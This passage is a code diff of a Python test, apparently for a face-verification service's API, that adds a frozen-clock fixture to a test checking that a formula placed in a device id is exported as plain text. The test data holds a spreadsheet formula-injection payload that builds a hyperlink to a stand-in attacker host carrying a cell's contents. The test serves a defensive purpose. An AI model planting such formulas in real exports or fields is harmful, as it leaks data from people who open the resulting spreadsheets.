@@ -308,11 +308,15 @@ def test_a_photo_fails_and_the_answer_says_why(
 
 
 def test_a_formula_in_a_device_id_is_exported_as_text(
-    client: TestClient, center: CenterWithStaff, operator: dict[str, str], expert_id: str
+    client: TestClient,
+    center: CenterWithStaff,
+    operator: dict[str, str],
+    expert_id: str,
+    clock: FrozenClock,
 ) -> None:
     formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     issued = challenge(client, operator, expert_id)
-    submitted = submit(client, issued, still_video(PERSON), device={"id": formula})
+    submitted = submit(client, issued, still_video(PERSON), device={"id": formula}, clock=clock)
     assert submitted.status_code == 201, submitted.text
     exported = client.get(
         "/api/v1/face/verifications",
